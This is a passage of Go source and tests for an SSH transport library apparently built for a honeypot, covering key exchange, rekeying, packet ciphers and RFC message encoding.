	dec, _ := newCTRCipher(CipherAES128CTR, MACHmacSHA256, key, iv, mac)

	var buf bytes.Buffer
	if err := enc.writePacket(&buf, 5, []byte("payload")); err != nil {
		t.Fatal(err)
	}
	if _, err := dec.readPacket(&buf, 6); err == nil {
		t.Error("wrong sequence number should fail MAC verification")
	}
}

func TestDeriveKeyLengths(t *testing.T) {
	k := []byte{1, 2, 3}
	h := []byte{4, 5, 6}
	sid := []byte{7, 8, 9}
	for _, n := range []int{1, 16, 31, 32, 33, 64, 100} {
		got := deriveKey(k, h, sid, 'A', n)
		if len(got) != n {
			t.Errorf("deriveKey length %d: got %d", n, len(got))
		}
	}
	// Prefix property: longer derivations extend shorter ones.
	short := deriveKey(k, h, sid, 'A', 16)
	long := deriveKey(k, h, sid, 'A', 64)
	if !bytes.Equal(short, long[:16]) {
		t.Error("deriveKey should have the prefix property")
	}
	// Different tags differ.
	if bytes.Equal(deriveKey(k, h, sid, 'A', 16), deriveKey(k, h, sid, 'B', 16)) {
		t.Error("different tags must derive different keys")
	}
}

func TestHostKeySignVerify(t *testing.T) {
	hk, err := GenerateHostKey()
	if err != nil {
		t.Fatal(err)
	}
	data := []byte("exchange hash")
	sig := hk.Sign(data)
	if err := VerifyHostSignature(hk.PublicBlob(), sig, data); err != nil {
		t.Errorf("valid signature rejected: %v", err)
	}
	if err := VerifyHostSignature(hk.PublicBlob(), sig, []byte("other")); err == nil {
		t.Error("signature over wrong data accepted")
	}
	other, _ := GenerateHostKey()
	if err := VerifyHostSignature(other.PublicBlob(), sig, data); err == nil {
		t.Error("signature from wrong key accepted")
	}
}

func TestHostKeyFromSeedDeterministic(t *testing.T) {
	seed := bytes.Repeat([]byte{0x42}, 32)
	a, err := HostKeyFromSeed(seed)
	if err != nil {
		t.Fatal(err)
	}
	b, err := HostKeyFromSeed(seed)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.PublicBlob(), b.PublicBlob()) {
		t.Error("same seed must give same key")
	}
	if _, err := HostKeyFromSeed([]byte("short")); err == nil {
		t.Error("short seed should be rejected")
	}
}

func TestMsgNameTable(t *testing.T) {
	known := []byte{
		MsgDisconnect, MsgIgnore, MsgUnimplemented, MsgDebug,
		MsgServiceRequest, MsgServiceAccept, MsgKexInit, MsgNewKeys,
		MsgKexECDHInit, MsgKexECDHReply, MsgUserauthRequest,
		MsgUserauthFailure, MsgUserauthSuccess, MsgUserauthBanner,
		MsgGlobalRequest, MsgRequestSuccess, MsgRequestFailure,
		MsgChannelOpen, MsgChannelOpenConfirmation, MsgChannelOpenFailure,
		MsgChannelWindowAdjust, MsgChannelData, MsgChannelExtendedData,
		MsgChannelEOF, MsgChannelClose, MsgChannelRequest,
		MsgChannelSuccess, MsgChannelFailure,
	}
	seen := map[string]bool{}
	for _, m := range known {
		name := MsgName(m)
		if name == "" || name == fmt.Sprintf("SSH_MSG_%d", m) {
			t.Errorf("message %d has no symbolic name", m)
		}
		if seen[name] {
			t.Errorf("duplicate name %q", name)
		}
		seen[name] = true
	}
	if got := MsgName(250); got != "SSH_MSG_250" {
		t.Errorf("unknown message name = %q", got)
	}
}
