package sshwire

import (
	"bytes"
	"sync"
	"testing"
	"time"
)

// pump echoes packets so the peer's read loop advances during tests.
func pump(c *Conn) {
	for {
		p, err := c.ReadPacket()
		if err != nil {
			return
		}
		cp := bytes.Clone(p)
		if err := c.WritePacket(cp); err != nil {
			return
		}
	}
}

// reader drains a connection's packets into a channel. Rekeys complete
// inside ReadPacket, exactly as they do under the Mux's read loop.
func reader(c *Conn) <-chan []byte {
	ch := make(chan []byte, 64)
	go func() {
		defer close(ch)
		for {
			p, err := c.ReadPacket()
			if err != nil {
				return
			}
			ch <- bytes.Clone(p)
		}
	}()
	return ch
}

func waitRekeys(t *testing.T, c *Conn, want int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for c.Rekeys() < want {
		if time.Now().After(deadline) {
			t.Fatalf("rekeys = %d, want %d", c.Rekeys(), want)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

func TestClientInitiatedRekey(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	go pump(srv)
	echoes := reader(cli)

	msg := []byte{200, 1, 2, 3}
	roundTrip := func() {
		t.Helper()
		if err := cli.WritePacket(msg); err != nil {
			t.Fatal(err)
		}
		select {
		case got := <-echoes:
			if !bytes.Equal(got, msg) {
				t.Fatalf("echo mismatch: %x", got)
			}
		case <-time.After(5 * time.Second):
			t.Fatal("echo timeout")
		}
	}

	roundTrip()
	if err := cli.RequestRekey(); err != nil {
		t.Fatal(err)
	}
	waitRekeys(t, cli, 1)
	// Traffic continues transparently on the new keys.
	for i := 0; i < 5; i++ {
		roundTrip()
	}
	waitRekeys(t, srv, 1)
	if !bytes.Equal(srv.SessionID(), cli.SessionID()) {
		t.Error("session ID must survive rekeying unchanged")
	}
}

func TestServerInitiatedRekey(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	go pump(cli)
	echoes := reader(srv)

	if err := srv.RequestRekey(); err != nil {
		t.Fatal(err)
	}
	waitRekeys(t, srv, 1)
	waitRekeys(t, cli, 1)
	if err := srv.WritePacket([]byte{201, 9}); err != nil {
		t.Fatal(err)
	}
	select {
	case <-echoes:
	case <-time.After(5 * time.Second):
		t.Fatal("no echo after server-initiated rekey")
	}
}

func TestRekeyRequestIdempotentWhileInFlight(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	go pump(srv)
	_ = reader(cli)

	if err := cli.RequestRekey(); err != nil {
		t.Fatal(err)
	}
	// A second request before completion must be a no-op, not a protocol
	// violation.
	if err := cli.RequestRekey(); err != nil {
		t.Fatal(err)
	}
	waitRekeys(t, cli, 1)
	time.Sleep(20 * time.Millisecond)
	if n := cli.Rekeys(); n != 1 {
		t.Fatalf("rekeys = %d, want exactly 1", n)
	}
}

func TestConcurrentWritersDuringRekey(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	go func() {
		for {
			if _, err := srv.ReadPacket(); err != nil {
				return
			}
		}
	}()
	_ = reader(cli)

	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				if err := cli.WritePacket([]byte{203, byte(i)}); err != nil {
					return
				}
			}
		}()
	}
	time.Sleep(5 * time.Millisecond)
	if err := cli.RequestRekey(); err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	waitRekeys(t, cli, 1)
	if err := cli.WritePacket([]byte{204}); err != nil {
		t.Fatal(err)
	}
}

func TestMultipleSequentialRekeys(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	go pump(srv)
	_ = reader(cli)

	for round := 1; round <= 3; round++ {
		if err := cli.RequestRekey(); err != nil {
			t.Fatal(err)
		}
		waitRekeys(t, cli, round)
		if err := cli.WritePacket([]byte{205, byte(round)}); err != nil {
			t.Fatal(err)
		}
	}
	waitRekeys(t, srv, 3)
}

func TestSimultaneousRekeyFromBothSides(t *testing.T) {
	srv, cli := handshakePair(t, nil, nil)
	_ = reader(srv)
	_ = reader(cli)

	if err := cli.RequestRekey(); err != nil {
		t.Fatal(err)
	}
	if err := srv.RequestRekey(); err != nil {
		t.Fatal(err)
	}
	waitRekeys(t, cli, 1)
	waitRekeys(t, srv, 1)
	// Channel still usable in both directions.
	if err := cli.WritePacket([]byte{206}); err != nil {
		t.Fatal(err)
	}
	if err := srv.WritePacket([]byte{207}); err != nil {
		t.Fatal(err)
	}
}
