package sshwire

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// DefaultServerVersion is the banner the honeypot presents; it mimics a
// stock Debian OpenSSH, as Cowrie does.
const DefaultServerVersion = "SSH-2.0-OpenSSH_8.4p1 Debian-5+deb11u1"

// DefaultClientVersion is the banner our attacker-simulation client sends.
const DefaultClientVersion = "SSH-2.0-Go_honeynet_client_0.1"

// Config controls a transport handshake.
type Config struct {
	// Version is the local identification string, without CRLF. If empty
	// a role-appropriate default is used.
	Version string
	// HostKey is required for servers, ignored for clients.
	HostKey *HostKey
	// HostKeyCheck, for clients, vets the server host key blob. Nil means
	// accept any key (the honeypot threat model: attackers never verify).
	HostKeyCheck func(blob []byte) error
	// HandshakeTimeout bounds version exchange + key exchange. Zero means
	// no deadline.
	HandshakeTimeout time.Duration
	// Ciphers overrides the cipher preference order (both directions).
	// Defaults to [aes128-ctr, aes256-ctr].
	Ciphers []string
	// MACs overrides the MAC preference order (both directions).
	// Defaults to [hmac-sha2-256, hmac-sha2-512].
	MACs []string
}

func (c *Config) cipherPrefs() []string {
	if c != nil && len(c.Ciphers) > 0 {
		return c.Ciphers
	}
	return []string{CipherAES128CTR, CipherAES256CTR}
}

func (c *Config) macPrefs() []string {
	if c != nil && len(c.MACs) > 0 {
		return c.MACs
	}
	return []string{MACHmacSHA256, MACHmacSHA512}
}

func (c *Config) version(server bool) string {
	if c != nil && c.Version != "" {
		return c.Version
	}
	if server {
		return DefaultServerVersion
	}
	return DefaultClientVersion
}

// Conn is an established SSH transport connection carrying encrypted,
// authenticated packets. Reads and writes may proceed concurrently with
// each other, but only one reader and one writer at a time.
type Conn struct {
	conn     net.Conn
	br       *bufio.Reader
	isServer bool

	localVersion  string
	remoteVersion string
	sessionID     []byte
	hostKeyBlob   []byte

	rmu     sync.Mutex
	reader  packetCipher
	readSeq uint32

	wmu      sync.Mutex
	wcond    *sync.Cond
	writer   packetCipher
	writeSeq uint32

	// Rekeying state (guarded by wmu for the write side).
	// handshakeDone gates KEXINIT interpretation: before the initial
	// handshake completes, KEXINIT packets belong to the handshake
	// itself, not to a re-exchange. It is written inside finishKex
	// (which holds both rmu and wmu) and read under rmu.
	handshakeDone  bool
	rekeying       bool
	ourPendingInit []byte
	rekeys         int

	// Role material retained for rekeys.
	hostKey      *HostKey
	hostKeyCheck func(blob []byte) error

	// Algorithm preferences (ours) and the negotiated outcome.
	cipherPrefs []string
	macPrefs    []string
	algs        negotiatedAlgs
}

// negotiatedAlgs is the per-direction algorithm outcome of a KEXINIT
// exchange.
type negotiatedAlgs struct {
	c2sCipher, s2cCipher string
	c2sMAC, s2cMAC       string
}

// SessionID returns the session identifier (the first exchange hash).
func (c *Conn) SessionID() []byte { return c.sessionID }

// Algorithms reports the negotiated per-direction cipher and MAC names.
type Algorithms struct {
	C2SCipher, S2CCipher string
	C2SMAC, S2CMAC       string
}

// Algorithms returns the outcome of the most recent KEXINIT negotiation.
func (c *Conn) Algorithms() Algorithms {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return Algorithms{
		C2SCipher: c.algs.c2sCipher, S2CCipher: c.algs.s2cCipher,
		C2SMAC: c.algs.c2sMAC, S2CMAC: c.algs.s2cMAC,
	}
}

// RemoteVersion returns the peer's identification string.
func (c *Conn) RemoteVersion() string { return c.remoteVersion }

// ServerHostKeyBlob returns the server host key blob observed (client) or
// presented (server) during key exchange.
func (c *Conn) ServerHostKeyBlob() []byte { return c.hostKeyBlob }

// RemoteAddr returns the remote network address.
func (c *Conn) RemoteAddr() net.Addr { return c.conn.RemoteAddr() }

// LocalAddr returns the local network address.
func (c *Conn) LocalAddr() net.Addr { return c.conn.LocalAddr() }

// Close closes the underlying connection.
func (c *Conn) Close() error { return c.conn.Close() }

// SetDeadline sets the read and write deadlines on the underlying
// connection.
func (c *Conn) SetDeadline(t time.Time) error { return c.conn.SetDeadline(t) }

// WritePacket sends one SSH packet with the given payload. During a key
// re-exchange, application writes block until NEWKEYS completes (RFC
// 4253 section 9 forbids non-kex packets after KEXINIT).
func (c *Conn) WritePacket(payload []byte) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	for c.rekeying {
		c.wcond.Wait()
	}
	err := c.writer.writePacket(c.conn, c.writeSeq, payload)
	c.writeSeq++
	return err
}

// ReadPacket reads the next SSH packet payload, transparently handling
// IGNORE, DEBUG, and UNIMPLEMENTED messages. A peer DISCONNECT is returned
// as a *DisconnectMsg error. The returned slice is only valid until the
// next ReadPacket call.
func (c *Conn) ReadPacket() ([]byte, error) {
	c.rmu.Lock()
	defer c.rmu.Unlock()
	for {
		payload, err := c.reader.readPacket(c.br, c.readSeq)
		c.readSeq++
		if err != nil {
			return nil, err
		}
		if len(payload) == 0 {
			return nil, errors.New("sshwire: empty packet payload")
		}
		switch payload[0] {
		case MsgIgnore, MsgDebug, MsgUnimplemented:
			continue
		case MsgKexInit:
			if !c.handshakeDone {
				return payload, nil // initial handshake KEXINIT
			}
			// Peer-initiated (or completing our) key re-exchange.
			if err := c.handleRekey(bytes.Clone(payload)); err != nil {
				return nil, fmt.Errorf("sshwire: rekey: %w", err)
			}
			continue
		case MsgDisconnect:
			m, perr := ParseDisconnect(payload)
			if perr != nil {
				return nil, perr
			}
			return nil, m
		default:
			return payload, nil
		}
	}
}

// Disconnect sends SSH_MSG_DISCONNECT and closes the connection.
func (c *Conn) Disconnect(reason uint32, desc string) error {
	m := DisconnectMsg{Reason: reason, Description: desc}
	_ = c.WritePacket(m.Marshal())
	return c.conn.Close()
}

// exchangeVersions writes our identification string and reads the peer's.
// Per RFC 4253 section 4.2 the peer may send preliminary non "SSH-" lines
// (servers only), which we skip.
func exchangeVersions(conn net.Conn, br *bufio.Reader, local string, expectBanner bool) (string, error) {
	if _, err := conn.Write([]byte(local + "\r\n")); err != nil {
		return "", fmt.Errorf("sshwire: writing version: %w", err)
	}
	for lines := 0; lines < 64; lines++ {
		line, err := readLine(br)
		if err != nil {
			return "", fmt.Errorf("sshwire: reading version: %w", err)
		}
		if strings.HasPrefix(line, "SSH-") {
			if !strings.HasPrefix(line, "SSH-2.0-") && !strings.HasPrefix(line, "SSH-1.99-") {
				return "", fmt.Errorf("sshwire: unsupported protocol version %q", line)
			}
			return line, nil
		}
		if !expectBanner {
			return "", fmt.Errorf("sshwire: expected version string, got %q", line)
		}
	}
	return "", errors.New("sshwire: too many banner lines before version string")
}

func readLine(br *bufio.Reader) (string, error) {
	// Version lines are at most 255 bytes including CRLF (RFC 4253 4.2).
	var buf []byte
	for len(buf) < 255 {
		b, err := br.ReadByte()
		if err != nil {
			return "", err
		}
		if b == '\n' {
			return string(bytes.TrimRight(buf, "\r")), nil
		}
		buf = append(buf, b)
	}
	return "", errors.New("sshwire: version line too long")
}

// makeKexInit builds our KEXINIT from the connection's preferences.
func (c *Conn) makeKexInit() (*KexInitMsg, error) {
	m := &KexInitMsg{
		KexAlgos:                []string{KexCurve25519, KexCurve25519LibSSH},
		HostKeyAlgos:            []string{HostKeyEd25519},
		CiphersClientServer:     c.cipherPrefs,
		CiphersServerClient:     c.cipherPrefs,
		MACsClientServer:        c.macPrefs,
		MACsServerClient:        c.macPrefs,
		CompressionClientServer: []string{CompressionNone},
		CompressionServerClient: []string{CompressionNone},
	}
	if _, err := rand.Read(m.Cookie[:]); err != nil {
		return nil, fmt.Errorf("sshwire: generating KEXINIT cookie: %w", err)
	}
	return m, nil
}

// negotiateAlgs validates every algorithm slot and returns the outcome.
// Client preference wins per RFC 4253 section 7.1.
func negotiateAlgs(client, server *KexInitMsg) (negotiatedAlgs, error) {
	var out negotiatedAlgs
	var err error
	if _, err = negotiate(client.KexAlgos, server.KexAlgos); err != nil {
		return out, err
	}
	if _, err = negotiate(client.HostKeyAlgos, server.HostKeyAlgos); err != nil {
		return out, err
	}
	if out.c2sCipher, err = negotiate(client.CiphersClientServer, server.CiphersClientServer); err != nil {
		return out, err
	}
	if out.s2cCipher, err = negotiate(client.CiphersServerClient, server.CiphersServerClient); err != nil {
		return out, err
	}
	if out.c2sMAC, err = negotiate(client.MACsClientServer, server.MACsClientServer); err != nil {
		return out, err
	}
	if out.s2cMAC, err = negotiate(client.MACsServerClient, server.MACsServerClient); err != nil {
		return out, err
	}
	if _, err = negotiate(client.CompressionClientServer, server.CompressionClientServer); err != nil {
		return out, err
	}
	if _, err = negotiate(client.CompressionServerClient, server.CompressionServerClient); err != nil {
		return out, err
	}
	return out, nil
}

// ServerHandshake performs the server side of the SSH transport handshake
// on conn and returns an established Conn.
func ServerHandshake(conn net.Conn, cfg *Config) (*Conn, error) {
	if cfg == nil || cfg.HostKey == nil {
		return nil, errors.New("sshwire: server requires a host key")
	}
	if cfg.HandshakeTimeout > 0 {
		if err := conn.SetDeadline(time.Now().Add(cfg.HandshakeTimeout)); err != nil {
			return nil, err
		}
		defer conn.SetDeadline(time.Time{}) //nolint:errcheck // best-effort reset
	}

	c := &Conn{
		conn:         conn,
		br:           bufio.NewReaderSize(conn, 32*1024),
		isServer:     true,
		localVersion: cfg.version(true),
		reader:       &plainCipher{},
		writer:       &plainCipher{},
		hostKey:      cfg.HostKey,
		cipherPrefs:  cfg.cipherPrefs(),
		macPrefs:     cfg.macPrefs(),
	}
	c.wcond = sync.NewCond(&c.wmu)
	remote, err := exchangeVersions(conn, c.br, c.localVersion, false)
	if err != nil {
		return nil, err
	}
	c.remoteVersion = remote

	ourInit, err := c.makeKexInit()
	if err != nil {
		return nil, err
	}
	ourInitBytes := ourInit.Marshal()
	if err := c.WritePacket(ourInitBytes); err != nil {
		return nil, err
	}
	theirInitBytes, err := c.readCopy()
	if err != nil {
		return nil, err
	}
	theirInit, err := ParseKexInit(theirInitBytes)
	if err != nil {
		return nil, err
	}
	algs, err := negotiateAlgs(theirInit, ourInit)
	if err != nil {
		return nil, err
	}
	c.algs = algs

	ecdhInit, err := c.readCopy()
	if err != nil {
		return nil, err
	}
	in := exchangeHashInputs{
		clientVersion: c.remoteVersion,
		serverVersion: c.localVersion,
		clientKexInit: theirInitBytes,
		serverKexInit: ourInitBytes,
	}
	reply, res, err := kexServer(cfg.HostKey, in, ecdhInit)
	if err != nil {
		return nil, err
	}
	if err := c.WritePacket(reply); err != nil {
		return nil, err
	}
	return c.finishKex(res)
}

// ClientHandshake performs the client side of the SSH transport handshake.
func ClientHandshake(conn net.Conn, cfg *Config) (*Conn, error) {
	if cfg == nil {
		cfg = &Config{}
	}
	if cfg.HandshakeTimeout > 0 {
		if err := conn.SetDeadline(time.Now().Add(cfg.HandshakeTimeout)); err != nil {
			return nil, err
		}
		defer conn.SetDeadline(time.Time{}) //nolint:errcheck // best-effort reset
	}

	c := &Conn{
		conn:         conn,
		br:           bufio.NewReaderSize(conn, 32*1024),
		localVersion: cfg.version(false),
		reader:       &plainCipher{},
		writer:       &plainCipher{},
		hostKeyCheck: cfg.HostKeyCheck,
		cipherPrefs:  cfg.cipherPrefs(),
		macPrefs:     cfg.macPrefs(),
	}
	c.wcond = sync.NewCond(&c.wmu)
	remote, err := exchangeVersions(conn, c.br, c.localVersion, true)
	if err != nil {
		return nil, err
	}
	c.remoteVersion = remote

	ourInit, err := c.makeKexInit()
	if err != nil {
		return nil, err
	}
	ourInitBytes := ourInit.Marshal()
	if err := c.WritePacket(ourInitBytes); err != nil {
		return nil, err
	}
	theirInitBytes, err := c.readCopy()
	if err != nil {
		return nil, err
	}
	theirInit, err := ParseKexInit(theirInitBytes)
	if err != nil {
		return nil, err
	}
	algs, err := negotiateAlgs(ourInit, theirInit)
	if err != nil {
		return nil, err
	}
	c.algs = algs

	priv, initPayload, err := kexClientInit()
	if err != nil {
		return nil, err
	}
	if err := c.WritePacket(initPayload); err != nil {
		return nil, err
	}
	replyPayload, err := c.readCopy()
	if err != nil {
		return nil, err
	}
	in := exchangeHashInputs{
		clientVersion: c.localVersion,
		serverVersion: c.remoteVersion,
		clientKexInit: ourInitBytes,
		serverKexInit: theirInitBytes,
	}
	res, err := kexClientFinish(priv, in, replyPayload, cfg.HostKeyCheck)
	if err != nil {
		return nil, err
	}
	return c.finishKex(res)
}

// readCopy reads a packet and returns an owned copy of its payload (the
// handshake retains KEXINIT payloads for the exchange hash).
func (c *Conn) readCopy() ([]byte, error) {
	p, err := c.ReadPacket()
	if err != nil {
		return nil, err
	}
	return bytes.Clone(p), nil
}

// finishKex exchanges NEWKEYS and installs the negotiated cipher state.
func (c *Conn) finishKex(res *kexResult) (*Conn, error) {
	if c.sessionID == nil {
		c.sessionID = bytes.Clone(res.H)
	}
	c.hostKeyBlob = bytes.Clone(res.HostKeyBlob)

	if err := c.WritePacket([]byte{MsgNewKeys}); err != nil {
		return nil, err
	}
	p, err := c.ReadPacket()
	if err != nil {
		return nil, err
	}
	if p[0] != MsgNewKeys {
		return nil, fmt.Errorf("sshwire: expected NEWKEYS, got %s", MsgName(p[0]))
	}

	// Direction tags per RFC 4253 section 7.2: client-to-server uses
	// 'A' (IV), 'C' (key), 'E' (MAC); server-to-client 'B', 'D', 'F'.
	c2sKey, c2sIV, c2sMAC := directionKeys(res.K, res.H, c.sessionID, c.algs.c2sCipher, c.algs.c2sMAC, 'A', 'C', 'E')
	s2cKey, s2cIV, s2cMAC := directionKeys(res.K, res.H, c.sessionID, c.algs.s2cCipher, c.algs.s2cMAC, 'B', 'D', 'F')

	c2s, err := newCTRCipher(c.algs.c2sCipher, c.algs.c2sMAC, c2sKey, c2sIV, c2sMAC)
	if err != nil {
		return nil, err
	}
	s2c, err := newCTRCipher(c.algs.s2cCipher, c.algs.s2cMAC, s2cKey, s2cIV, s2cMAC)
	if err != nil {
		return nil, err
	}
	c.rmu.Lock()
	c.wmu.Lock()
	if c.isServer {
		c.reader, c.writer = c2s, s2c
	} else {
		c.reader, c.writer = s2c, c2s
	}
	c.handshakeDone = true
	c.wmu.Unlock()
	c.rmu.Unlock()
	return c, nil
}

// RequestService sends SSH_MSG_SERVICE_REQUEST and waits for the accept
// (client side).
func (c *Conn) RequestService(name string) error {
	b := NewBuilder(5 + len(name))
	b.Byte(MsgServiceRequest)
	b.StringS(name)
	if err := c.WritePacket(b.Bytes()); err != nil {
		return err
	}
	p, err := c.ReadPacket()
	if err != nil {
		return err
	}
	r := NewReader(p)
	if t := r.Byte(); t != MsgServiceAccept {
		return fmt.Errorf("sshwire: expected SERVICE_ACCEPT, got %s", MsgName(t))
	}
	if got := r.StringS(); got != name {
		return fmt.Errorf("sshwire: service accept for %q, requested %q", got, name)
	}
	return nil
}

// AcceptService reads SSH_MSG_SERVICE_REQUEST and accepts it if the name
// matches one of allowed (server side). It returns the accepted name.
func (c *Conn) AcceptService(allowed ...string) (string, error) {
	p, err := c.ReadPacket()
	if err != nil {
		return "", err
	}
	r := NewReader(p)
	if t := r.Byte(); t != MsgServiceRequest {
		return "", fmt.Errorf("sshwire: expected SERVICE_REQUEST, got %s", MsgName(t))
	}
	name := r.StringS()
	if err := r.Err(); err != nil {
		return "", err
	}
	ok := false
	for _, a := range allowed {
		if a == name {
			ok = true
			break
		}
	}
	if !ok {
		_ = c.Disconnect(DisconnectByApplication, "service not available")
		return "", fmt.Errorf("sshwire: service %q not allowed", name)
	}
	b := NewBuilder(5 + len(name))
	b.Byte(MsgServiceAccept)
	b.StringS(name)
	if err := c.WritePacket(b.Bytes()); err != nil {
		return "", err
	}
	return name, nil
}

var _ io.Closer = (*Conn)(nil)
