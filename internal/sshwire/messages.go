package sshwire

import "fmt"

// SSH message numbers (RFC 4250 section 4.1.2).
const (
	MsgDisconnect      = 1
	MsgIgnore          = 2
	MsgUnimplemented   = 3
	MsgDebug           = 4
	MsgServiceRequest  = 5
	MsgServiceAccept   = 6
	MsgKexInit         = 20
	MsgNewKeys         = 21
	MsgKexECDHInit     = 30
	MsgKexECDHReply    = 31
	MsgUserauthRequest = 50
	MsgUserauthFailure = 51
	MsgUserauthSuccess = 52
	MsgUserauthBanner  = 53

	MsgGlobalRequest  = 80
	MsgRequestSuccess = 81
	MsgRequestFailure = 82

	MsgChannelOpen             = 90
	MsgChannelOpenConfirmation = 91
	MsgChannelOpenFailure      = 92
	MsgChannelWindowAdjust     = 93
	MsgChannelData             = 94
	MsgChannelExtendedData     = 95
	MsgChannelEOF              = 96
	MsgChannelClose            = 97
	MsgChannelRequest          = 98
	MsgChannelSuccess          = 99
	MsgChannelFailure          = 100
)

// Disconnect reason codes (RFC 4253 section 11.1).
const (
	DisconnectProtocolError        = 2
	DisconnectHostKeyNotVerifiable = 9
	DisconnectConnectionLost       = 10
	DisconnectByApplication        = 11
	DisconnectNoMoreAuthMethods    = 14
)

// Channel-open failure reason codes (RFC 4254 section 5.1).
const (
	OpenAdministrativelyProhibited = 1
	OpenConnectFailed              = 2
	OpenUnknownChannelType         = 3
	OpenResourceShortage           = 4
)

// MsgName returns a human-readable name for an SSH message number,
// useful in error messages and debug logs.
func MsgName(t byte) string {
	switch t {
	case MsgDisconnect:
		return "SSH_MSG_DISCONNECT"
	case MsgIgnore:
		return "SSH_MSG_IGNORE"
	case MsgUnimplemented:
		return "SSH_MSG_UNIMPLEMENTED"
	case MsgDebug:
		return "SSH_MSG_DEBUG"
	case MsgServiceRequest:
		return "SSH_MSG_SERVICE_REQUEST"
	case MsgServiceAccept:
		return "SSH_MSG_SERVICE_ACCEPT"
	case MsgKexInit:
		return "SSH_MSG_KEXINIT"
	case MsgNewKeys:
		return "SSH_MSG_NEWKEYS"
	case MsgKexECDHInit:
		return "SSH_MSG_KEX_ECDH_INIT"
	case MsgKexECDHReply:
		return "SSH_MSG_KEX_ECDH_REPLY"
	case MsgUserauthRequest:
		return "SSH_MSG_USERAUTH_REQUEST"
	case MsgUserauthFailure:
		return "SSH_MSG_USERAUTH_FAILURE"
	case MsgUserauthSuccess:
		return "SSH_MSG_USERAUTH_SUCCESS"
	case MsgUserauthBanner:
		return "SSH_MSG_USERAUTH_BANNER"
	case MsgGlobalRequest:
		return "SSH_MSG_GLOBAL_REQUEST"
	case MsgRequestSuccess:
		return "SSH_MSG_REQUEST_SUCCESS"
	case MsgRequestFailure:
		return "SSH_MSG_REQUEST_FAILURE"
	case MsgChannelOpen:
		return "SSH_MSG_CHANNEL_OPEN"
	case MsgChannelOpenConfirmation:
		return "SSH_MSG_CHANNEL_OPEN_CONFIRMATION"
	case MsgChannelOpenFailure:
		return "SSH_MSG_CHANNEL_OPEN_FAILURE"
	case MsgChannelWindowAdjust:
		return "SSH_MSG_CHANNEL_WINDOW_ADJUST"
	case MsgChannelData:
		return "SSH_MSG_CHANNEL_DATA"
	case MsgChannelExtendedData:
		return "SSH_MSG_CHANNEL_EXTENDED_DATA"
	case MsgChannelEOF:
		return "SSH_MSG_CHANNEL_EOF"
	case MsgChannelClose:
		return "SSH_MSG_CHANNEL_CLOSE"
	case MsgChannelRequest:
		return "SSH_MSG_CHANNEL_REQUEST"
	case MsgChannelSuccess:
		return "SSH_MSG_CHANNEL_SUCCESS"
	case MsgChannelFailure:
		return "SSH_MSG_CHANNEL_FAILURE"
	default:
		return fmt.Sprintf("SSH_MSG_%d", t)
	}
}

// Supported algorithm names. KEXINIT negotiation picks the first
// client-preferred algorithm the server also implements per slot.
const (
	KexCurve25519       = "curve25519-sha256"
	KexCurve25519LibSSH = "curve25519-sha256@libssh.org"
	HostKeyEd25519      = "ssh-ed25519"
	CipherAES128CTR     = "aes128-ctr"
	CipherAES256CTR     = "aes256-ctr"
	MACHmacSHA256       = "hmac-sha2-256"
	MACHmacSHA512       = "hmac-sha2-512"
	CompressionNone     = "none"
)

// KexInitMsg is SSH_MSG_KEXINIT (RFC 4253 section 7.1).
type KexInitMsg struct {
	Cookie                  [16]byte
	KexAlgos                []string
	HostKeyAlgos            []string
	CiphersClientServer     []string
	CiphersServerClient     []string
	MACsClientServer        []string
	MACsServerClient        []string
	CompressionClientServer []string
	CompressionServerClient []string
	LanguagesClientServer   []string
	LanguagesServerClient   []string
	FirstKexPacketFollows   bool
}

// Marshal serializes the message including its leading message byte.
func (m *KexInitMsg) Marshal() []byte {
	b := NewBuilder(256)
	b.Byte(MsgKexInit)
	b.Raw(m.Cookie[:])
	b.NameList(m.KexAlgos)
	b.NameList(m.HostKeyAlgos)
	b.NameList(m.CiphersClientServer)
	b.NameList(m.CiphersServerClient)
	b.NameList(m.MACsClientServer)
	b.NameList(m.MACsServerClient)
	b.NameList(m.CompressionClientServer)
	b.NameList(m.CompressionServerClient)
	b.NameList(m.LanguagesClientServer)
	b.NameList(m.LanguagesServerClient)
	b.Bool(m.FirstKexPacketFollows)
	b.Uint32(0) // reserved
	return b.Bytes()
}

// ParseKexInit parses an SSH_MSG_KEXINIT payload (including message byte).
func ParseKexInit(payload []byte) (*KexInitMsg, error) {
	r := NewReader(payload)
	if t := r.Byte(); t != MsgKexInit {
		return nil, fmt.Errorf("sshwire: expected KEXINIT, got %s", MsgName(t))
	}
	var m KexInitMsg
	copy(m.Cookie[:], r.Bytes(16))
	m.KexAlgos = r.NameList()
	m.HostKeyAlgos = r.NameList()
	m.CiphersClientServer = r.NameList()
	m.CiphersServerClient = r.NameList()
	m.MACsClientServer = r.NameList()
	m.MACsServerClient = r.NameList()
	m.CompressionClientServer = r.NameList()
	m.CompressionServerClient = r.NameList()
	m.LanguagesClientServer = r.NameList()
	m.LanguagesServerClient = r.NameList()
	m.FirstKexPacketFollows = r.Bool()
	r.Uint32() // reserved
	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("sshwire: malformed KEXINIT: %w", err)
	}
	return &m, nil
}

// DisconnectMsg is SSH_MSG_DISCONNECT.
type DisconnectMsg struct {
	Reason      uint32
	Description string
}

// Error implements the error interface so a peer-initiated disconnect can
// propagate as an error value.
func (m *DisconnectMsg) Error() string {
	return fmt.Sprintf("sshwire: peer disconnected (reason %d): %s", m.Reason, m.Description)
}

// Marshal serializes the message including its leading message byte.
func (m *DisconnectMsg) Marshal() []byte {
	b := NewBuilder(32 + len(m.Description))
	b.Byte(MsgDisconnect)
	b.Uint32(m.Reason)
	b.StringS(m.Description)
	b.StringS("") // language tag
	return b.Bytes()
}

// ParseDisconnect parses an SSH_MSG_DISCONNECT payload.
